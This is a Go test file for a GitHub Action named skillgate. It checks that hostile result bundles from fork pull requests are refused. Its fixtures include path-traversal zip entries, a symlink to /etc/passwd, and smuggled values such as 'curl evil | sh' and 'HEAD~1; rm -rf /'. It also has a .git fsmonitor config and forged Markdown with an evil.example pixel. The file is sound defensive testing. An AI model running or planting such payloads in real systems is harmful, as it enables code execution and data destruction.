package action

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// validBundle is the results folder of a collecting run of the test workspace on the fork's
// pull request (no LLM grader, no program: it needs nothing but Go).
func validBundle(t *testing.T) map[string][]byte {
	t.Helper()
	h := newHarness(t, "pull_request.fork")
	h.gh.prFiles = [][2]string{{"evals/greet/eval.yaml", ""}}
	if code := h.run(); code != ExitOK {
		t.Fatalf("collect: exit %d\n%s", code, h.stdout.String())
	}
	files := dirFiles(t, filepath.Join(h.ws, ".skillgate"))
	if files[PRFile] == nil || files["results/greet.json"] == nil || files["bundle/tree/evals/greet/eval.yaml"] == nil {
		t.Fatalf("incomplete bundle: %v", sortedKeys(files))
	}
	return files
}

// rawZip writes entries in order, allowing the names and modes a normal writer would not.
type rawEntry struct {
	name string
	data []byte
	mode fs.FileMode
}

func rawZip(t *testing.T, entries []rawEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		if e.mode != 0 {
			h.SetMode(e.mode)
		}
		w, err := zw.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(e.data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func entriesOf(files map[string][]byte) []rawEntry {
	var out []rawEntry
	for _, name := range sortedKeys(files) {
		out = append(out, rawEntry{name: name, data: files[name]})
	}
	return out
}

func editJSON(t *testing.T, data []byte, edit func(m map[string]any)) []byte {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	edit(m)
	out, _ := json.Marshal(m)
	return out
}

// Hostile bundles are refused before anything in them is used, each with a message naming the
// entry and the rule it broke.
func TestHostileBundlesAreRefused(t *testing.T) {
	good := validBundle(t)
	with := func(edit func(files map[string][]byte)) []rawEntry {
		files := map[string][]byte{}
		for k, v := range good {
			files[k] = v
		}
		edit(files)
		return entriesOf(files)
	}
	big := bytes.Repeat([]byte("x"), maxTreeFile+1)
	tests := []struct {
		name    string
		entries []rawEntry
		want    string
	}{
		{"path traversal", append(entriesOf(good), rawEntry{name: "bundle/tree/../../../../home/runner/.bashrc", data: []byte("evil")}), "unsafe entry name \"bundle/tree/../../../../home/runner/.bashrc\": `..` leaves the archive"},
		{"absolute entry", append(entriesOf(good), rawEntry{name: "/etc/cron.d/x", data: []byte("evil")}), "unsafe entry name \"/etc/cron.d/x\": absolute"},
		{"backslash entry", append(entriesOf(good), rawEntry{name: `bundle\tree\x`, data: []byte("evil")}), "NUL or backslash"},
		{"symbolic link", append(entriesOf(good), rawEntry{name: "bundle/tree/evals/link", data: []byte("/etc/passwd"), mode: fs.ModeSymlink | 0o777}), "is a symbolic link"},
		{"duplicate entry", append(entriesOf(good), rawEntry{name: PRFile, data: good[PRFile]}), "appears twice"},
		{"oversized suite file", with(func(f map[string][]byte) { f["bundle/tree/evals/greet/fixtures/huge.bin"] = big }), "over the limit of 8 MiB"},
		{"oversized pr.json", with(func(f map[string][]byte) { f[PRFile] = append(bytes.Repeat([]byte(" "), maxPRFile), f[PRFile]...) }), "pr.json is"},
		{"malformed pr.json", with(func(f map[string][]byte) { f[PRFile] = []byte(`{"version": 1, "number": 7,`) }), "pr.json is not JSON"},
		{"pr.json of the wrong shape", with(func(f map[string][]byte) {
			f[PRFile] = editJSON(t, f[PRFile], func(m map[string]any) { m["number"] = "7" })
		}), "pr.json does not match its schema: at /number"},
		{"pr.json with a key too many", with(func(f map[string][]byte) {
			f[PRFile] = editJSON(t, f[PRFile], func(m map[string]any) { m["run_this"] = "curl evil | sh" })
		}), "additionalProperties 'run_this' not allowed"},
		{"pr.json with a bad commit id", with(func(f map[string][]byte) {
			f[PRFile] = editJSON(t, f[PRFile], func(m map[string]any) { m["head_sha"] = "HEAD~1; rm -rf /" })
		}), "at /head_sha"},
		{"suite file leaving the tree", with(func(f map[string][]byte) {
			f[PRFile] = editJSON(t, f[PRFile], func(m map[string]any) {
				m["suites"].([]any)[0].(map[string]any)["suite_file"] = "evals/../../../etc/passwd"
			})
		}), "is not a clean relative path"},
		{"malformed results", with(func(f map[string][]byte) {
			f["results/greet.json"] = []byte(`{"schema_version": 1, "eval_name": "greet", "tasks": [`)
		}), "results/greet.json is not JSON"},
		{"results of the wrong shape", with(func(f map[string][]byte) {
			f["results/greet.json"] = editJSON(t, f["results/greet.json"], func(m map[string]any) { m["tasks"] = map[string]any{"id": "x"} })
		}), "results/greet.json does not match its schema: at /tasks"},
		{"results of another suite", with(func(f map[string][]byte) {
			f["results/greet.json"] = editJSON(t, f["results/greet.json"], func(m map[string]any) { m["eval_name"] = "other" })
		}), `holds suite "other"`},
		{"results missing", with(func(f map[string][]byte) { delete(f, "results/greet.json") }), "names results/greet.json, which the bundle lacks"},
		{"suite file missing", with(func(f map[string][]byte) { delete(f, "bundle/tree/evals/greet/eval.yaml") }), "the suite file evals/greet/eval.yaml of greet is not in the bundle"},
		{"a .git folder", with(func(f map[string][]byte) { f["bundle/tree/.git/config"] = []byte("[core]\nfsmonitor = evil") }), "a .git folder has no place"},
		{"two pr.json", with(func(f map[string][]byte) { f["again/"+PRFile] = f[PRFile] }), "2 pr.json files"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := rawZip(t, tt.entries)
			_, err := readBundle(bytes.NewReader(data), int64(len(data)))
			var be *BundleError
			if !errors.As(err, &be) || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %v, want a refusal with %q", err, tt.want)
			}
		})
	}
	t.Run("the valid bundle reads", func(t *testing.T) {
		data := rawZip(t, entriesOf(good))
		b, err := readBundle(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatal(err)
		}
		if b.PR.Number != 7 || b.Results["results/greet.json"] == nil || b.Tree["evals/greet/eval.yaml"] == nil || b.Tree["evals/greet/skills/greeter/SKILL.md"] == nil {
			t.Errorf("bundle %+v", b.PR)
		}
	})
	t.Run("one folder down", func(t *testing.T) {
		var entries []rawEntry
		for _, e := range entriesOf(good) {
			e.name = ".skillgate/" + e.name
			entries = append(entries, e)
		}
		data := rawZip(t, entries)
		if _, err := readBundle(bytes.NewReader(data), int64(len(data))); err != nil {
			t.Error(err)
		}
	})
	t.Run("no pr.json", func(t *testing.T) {
		data := rawZip(t, []rawEntry{{name: "results/greet.json", data: good["results/greet.json"]}})
		if _, err := readBundle(bytes.NewReader(data), int64(len(data))); !errors.Is(err, errNoPRRecord) {
			t.Errorf("error %v", err)
		}
	})
}

// publishRefusal runs phase two on a bundle and checks it was refused: exit 2, the reason as an
// error annotation and as a failed check run on the run's head commit, and no comment.
func publishRefusal(t *testing.T, h *harness, want string) {
	t.Helper()
	if code := h.run(); code != ExitUsage {
		t.Fatalf("exit %d, want 2\n%s", code, h.stdout.String())
	}
	if errs := strings.Join(h.annotations("error"), "\n"); !strings.Contains(errs, want) {
		t.Errorf("no error annotation with %q:\n%s", want, errs)
	}
	if n := h.gh.called("POST /repos/acme/demo/issues"); n != 0 {
		t.Errorf("%d comments on a refused run", n)
	}
	if len(h.gh.checks) != 1 {
		t.Fatalf("%d check-run calls, want the failed check", len(h.gh.checks))
	}
	c := h.gh.checks[0].Body
	out, _ := c["output"].(map[string]any)
	if c["head_sha"] != headSHA || c["conclusion"] != "failure" || c["name"] != "skillgate (evals)" || !strings.Contains(out["summary"].(string), want) {
		t.Errorf("check run %v", c)
	}
}

func TestReportRefusesWhatTheAPIContradicts(t *testing.T) {
	good := validBundle(t)
	tests := []struct {
		name  string
		edit  func(files map[string][]byte, h *harness)
		want  string
		calls string // an API call the check must have made
	}{
		{"a pull request number that does not match the head", func(files map[string][]byte, h *harness) {
			files[PRFile] = editJSON(t, files[PRFile], func(m map[string]any) { m["number"] = 8 })
			h.gh.pulls[8] = fakePull{HeadSHA: mergeSHA, HeadRepo: "octodev/demo", HeadRef: "main"}
		}, "pr.json names pull request #8, whose head is b3d5f7a, not the head 4c2e8a6 of run 8123", "GET /repos/acme/demo/commits/" + headSHA + "/pulls"},
		{"a pull request that does not exist", func(files map[string][]byte, h *harness) {
			files[PRFile] = editJSON(t, files[PRFile], func(m map[string]any) { m["number"] = 99 })
		}, "pr.json names pull request #99: reading it: 404", "GET /repos/acme/demo/pulls/99"},
		{"a pull request from another fork", func(files map[string][]byte, h *harness) {
			h.gh.pulls[7] = fakePull{HeadSHA: headSHA, HeadRepo: "mallory/demo", HeadRef: "main"}
		}, "pull request #7 comes from mallory/demo, but run 8123 ran code from octodev/demo", "GET /repos/acme/demo/pulls/7"},
		{"a head commit other than the run's", func(files map[string][]byte, h *harness) {
			files[PRFile] = editJSON(t, files[PRFile], func(m map[string]any) { m["head_sha"] = mergeSHA })
		}, "pr.json says head b3d5f7a, but run 8123 ran 4c2e8a6", ""},
		{"a key of another workflow", func(files map[string][]byte, h *harness) {
			files[PRFile] = editJSON(t, files[PRFile], func(m map[string]any) { m["key"] = "release" })
		}, `pr.json's key "release" names another workflow than evals.yml`, ""},
		{"a suite reading outside the bundle", func(files map[string][]byte, h *harness) {
			files["bundle/tree/evals/greet/tasks/hello.yaml"] = []byte("id: hello\ncontext_dir: ../../../../../../../../../../etc\ninputs:\n  prompt: hi\n  files:\n    - path: hostname\n")
		}, "context dir /etc lies outside", ""}, // refused before /etc/hostname is read
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			files := map[string][]byte{}
			for k, v := range good {
				files[k] = v
			}
			h, _ := reportHarness(t, nil)
			tt.edit(files, h)
			zipped := zipOf(t, files)
			h.gh.blobs[9500] = zipped
			if tt.name == "a suite reading outside the bundle" {
				if _, err := os.Stat("/etc/hostname"); err != nil {
					t.Skip("needs /etc/hostname")
				}
			}
			publishRefusal(t, h, tt.want)
			if tt.calls != "" && h.gh.called(tt.calls) == 0 {
				t.Errorf("the API was not asked: %s", tt.calls)
			}
		})
	}
}

// A pull request that moved on since the collected run still gets the check run on the collected
// commit, but the comment is left to the newer run.
func TestReportOnAStaleHead(t *testing.T) {
	h, _ := reportHarness(t, zipOf(t, validBundle(t)))
	h.gh.pulls[7] = fakePull{HeadSHA: pushSHA, HeadRepo: "octodev/demo", HeadRef: "main", Commits: []string{headSHA}}
	h.input(InBaseline, "none")
	if code := h.run(); code != ExitOK {
		t.Fatalf("exit %d\n%s", code, h.stdout.String())
	}
	if n := h.gh.called("POST /repos/acme/demo/issues"); n != 0 {
		t.Errorf("a stale run commented")
	}
	if len(h.gh.checks) != 1 || h.gh.checks[0].Body["head_sha"] != headSHA || h.gh.checks[0].Body["conclusion"] != "success" {
		t.Errorf("check runs %v", h.gh.checks)
	}
}

func TestReportSkipsWhatNeedsNoReport(t *testing.T) {
	t.Run("a push run", func(t *testing.T) {
		h := newHarness(t, "workflow_run.push")
		h.input(InMode, ModeReport)
		if code := h.run(); code != ExitOK {
			t.Fatalf("exit %d\n%s", code, h.stdout.String())
		}
		if n := h.gh.called("GET /repos/acme/demo/actions"); n != 0 || !strings.Contains(h.stdout.String(), "not by a pull request") {
			t.Errorf("a push run was looked into:\n%s", h.stdout.String())
		}
	})
	t.Run("a fork run without a bundle", func(t *testing.T) {
		h, _ := reportHarness(t, zipOf(t, map[string][]byte{"results/greet.json": validBundle(t)["results/greet.json"]}))
		publishRefusal(t, h, "run 8123 of evals.yml left no bundle to report")
	})
	t.Run("a fork run without any artifact", func(t *testing.T) {
		h, _ := reportHarness(t, nil)
		h.gh.prRuns[0].Artifacts = nil
		publishRefusal(t, h, "run 8123 has no artifact named skillgate-results")
	})
	t.Run("a cancelled fork run", func(t *testing.T) {
		h, _ := reportHarness(t, nil)
		h.gh.prRuns[0].Artifacts = nil
		data, _ := os.ReadFile(h.env["GITHUB_EVENT_PATH"])
		os.WriteFile(h.env["GITHUB_EVENT_PATH"], bytes.Replace(data, []byte(`"conclusion": "success"`), []byte(`"conclusion": "cancelled"`), 1), 0o644)
		if code := h.run(); code != ExitOK || len(h.gh.checks) != 0 {
			t.Errorf("exit %d, %d check runs", code, len(h.gh.checks))
		}
	})
	t.Run("not a workflow_run", func(t *testing.T) {
		h := newHarness(t, "pull_request.synchronize")
		h.input(InMode, ModeReport)
		if code := h.run(); code != ExitUsage || !strings.Contains(strings.Join(h.annotations("error"), ""), "from a workflow_run workflow") {
			t.Errorf("exit %d\n%s", code, h.stdout.String())
		}
	})
}

func TestWorkflowRunEvent(t *testing.T) {
	env := map[string]string{"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_REPOSITORY": "acme/demo", "GITHUB_EVENT_PATH": "testdata/events/workflow_run.fork.json"}
	ev, err := ReadEvent(func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	want := &WorkflowRun{ID: forkRunID, Name: "evals", Event: "pull_request", Conclusion: "success", HeadSHA: headSHA, HeadBranch: "main", HeadRepo: "octodev/demo", Workflow: "evals.yml"}
	if ev.Run == nil || ev.PR != nil || ev.Fork() {
		t.Fatalf("event %+v", ev)
	}
	if got := *ev.Run; got.ID != want.ID || got.Event != want.Event || got.HeadSHA != want.HeadSHA || got.HeadRepo != want.HeadRepo || got.Workflow != want.Workflow || len(got.PullRequests) != 0 || got.Conclusion != want.Conclusion {
		t.Errorf("run %+v, want %+v", got, want)
	}
	env["GITHUB_EVENT_PATH"] = "testdata/events/workflow_run.push.json"
	if ev, err := ReadEvent(func(k string) string { return env[k] }); err != nil || ev.Run.Event != "push" || ev.Run.HeadRepo != "acme/demo" {
		t.Errorf("push run: %+v %v", ev.Run, err)
	}
}

// mode: auto on a same-repository pull request whose writes GitHub refuses (a Dependabot pull
// request's read-only token) leaves a bundle for the report workflow after the fact.
func TestRefusedWriteLeavesABundle(t *testing.T) {
	h := newHarness(t, "pull_request.synchronize")
	h.gh.prFiles = [][2]string{{"evals/greet/eval.yaml", ""}}
	h.input(InCheckRun, "true")
	h.input(InBaseline, "none")
	h.gh.faults = map[string][]int{"create-comment": {403}}
	if code := h.run(); code != ExitOK {
		t.Fatalf("exit %d\n%s", code, h.stdout.String())
	}
	if n := h.gh.called("POST /repos/acme/demo/check-runs"); n != 0 {
		t.Errorf("the check run was attempted after a refused write")
	}
	var rec PRRecord
	if err := json.Unmarshal([]byte(h.readFile(".skillgate/"+PRFile)), &rec); err != nil {
		t.Fatal(err)
	}
	if !rec.NeedsReport || rec.HeadRepo != "acme/demo" || rec.Number != 7 {
		t.Errorf("pr.json %+v", rec)
	}
	if !strings.Contains(h.stdout.String(), "GitHub refused this run's writes") {
		t.Errorf("no notice:\n%s", h.stdout.String())
	}
	// The report workflow, given this bundle, publishes it even though the run is not a fork's.
	two, _ := reportHarness(t, zipOf(t, dirFiles(t, filepath.Join(h.ws, ".skillgate"))))
	two.gh.prRuns[0].HeadRepo = "acme/demo"
	two.gh.pulls[7] = fakePull{HeadSHA: headSHA, HeadRepo: "acme/demo", HeadRef: "friendlier-greeter"}
	data, _ := os.ReadFile(two.env["GITHUB_EVENT_PATH"])
	data = bytes.ReplaceAll(data, []byte(`"full_name": "octodev/demo"`), []byte(`"full_name": "acme/demo"`))
	os.WriteFile(two.env["GITHUB_EVENT_PATH"], data, 0o644)
	two.input(InBaseline, "none")
	if code := two.run(); code != ExitOK {
		t.Fatalf("report: exit %d\n%s", code, two.stdout.String())
	}
	if len(two.gh.commentBodies()) != 1 {
		t.Errorf("the report workflow did not comment")
	}
}

// A bundle whose suite names files outside the bundle (an absolute task path, a glob or a
// context folder outside it) is refused before anything reads those files: the message names
// the path, never what the file holds (issue 27).
func TestReportReadsNothingOutsideTheBundle(t *testing.T) {
	good := validBundle(t)
	outside := t.TempDir()
	planted := filepath.Join(outside, "planted.yaml")
	// A valid task: read, it would load and only the later check would refuse it, quoting it.
	os.WriteFile(planted, []byte("id: planted-secret\ninputs:\n  prompt: PLANTED-SECRET-CONTENT\n"), 0o644)
	os.WriteFile(filepath.Join(outside, "hostname"), []byte("PLANTED-SECRET-CONTENT\n"), 0o644)
	evalYAML := string(good["bundle/tree/evals/greet/eval.yaml"])
	tests := []struct {
		name string
		edit func(files map[string][]byte)
		want string
	}{
		{"an absolute task path", func(files map[string][]byte) {
			files["bundle/tree/evals/greet/eval.yaml"] = []byte(strings.Replace(evalYAML, "  - tasks/*.yaml", "  - tasks/*.yaml\n  - "+planted, 1))
		}, "task file " + planted + " lies outside"},
		{"an absolute task glob", func(files map[string][]byte) {
			files["bundle/tree/evals/greet/eval.yaml"] = []byte(strings.Replace(evalYAML, "  - tasks/*.yaml", "  - tasks/*.yaml\n  - "+outside+"/*.yaml", 1))
		}, "task glob " + outside + " lies outside"},
		{"a relative task path leaving the bundle", func(files map[string][]byte) {
			rel, _ := filepath.Rel("/", planted)
			files["bundle/tree/evals/greet/eval.yaml"] = []byte(strings.Replace(evalYAML, "  - tasks/*.yaml", "  - tasks/*.yaml\n  - ../../../../../../../../../../"+rel, 1))
		}, " lies outside"},
		{"a context folder outside", func(files map[string][]byte) {
			files["bundle/tree/evals/greet/tasks/hello.yaml"] = []byte("id: hello\ncontext_dir: " + outside + "\ninputs:\n  prompt: hi\n  files:\n    - path: hostname\n")
		}, "context dir " + outside + " lies outside"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			files := map[string][]byte{}
			for k, v := range good {
				files[k] = v
			}
			tt.edit(files)
			h, _ := reportHarness(t, zipOf(t, files))
			publishRefusal(t, h, tt.want)
			c := h.gh.checks[0].Body
			if out := h.stdout.String() + fmt.Sprint(c); strings.Contains(out, "PLANTED-SECRET-CONTENT") || strings.Contains(out, "planted-secret") {
				t.Errorf("the file outside the bundle was read:\n%s", out)
			}
		})
	}
}

// A refused bundle's reason quotes what the fork wrote: the failed check run shows it as plain
// text, so it cannot render images, mention people or forge a heading.
func TestRefusalReasonIsPlainText(t *testing.T) {
	good := validBundle(t)
	files := map[string][]byte{}
	for k, v := range good {
		files[k] = v
	}
	forged := "x\n\n## ✅ all evals passed\n![ok](https://evil.example/pixel.png) @octocat ``` </details>"
	evalYAML := string(good["bundle/tree/evals/greet/eval.yaml"])
	files["bundle/tree/evals/greet/eval.yaml"] = []byte(strings.Replace(evalYAML, "  - tasks/*.yaml", "  - "+strconv.Quote(forged), 1))
	h, _ := reportHarness(t, zipOf(t, files))
	publishRefusal(t, h, "no file matches")
	out, _ := h.gh.checks[0].Body["output"].(map[string]any)
	summary := out["summary"].(string)
	fence, body, ok := strings.Cut(summary, "text\n")
	if !ok || strings.Trim(fence, "`") != "" || len(fence) < 4 {
		t.Fatalf("the reason is not in a fenced block:\n%s", summary)
	}
	inside, after, ok := strings.Cut(body, "\n"+fence+"\n")
	if !ok || !strings.Contains(inside, "## ✅ all evals passed") || strings.Contains(after, "✅") || strings.Contains(after, "![") {
		t.Errorf("the forged Markdown is not confined to the block:\n%s", summary)
	}
}

func TestPlainBlock(t *testing.T) {
	cases := []struct{ in, want string }{
		{"plain", "```text\nplain\n```\n"},
		{"a ``` b", "````text\na ``` b\n````\n"},
		{"bell\a and \r\nCRLF\n\n", "```text\nbell and \nCRLF\n```\n"},
	}
	for _, c := range cases {
		if got := plainBlock(c.in); got != c.want {
			t.Errorf("plainBlock(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}
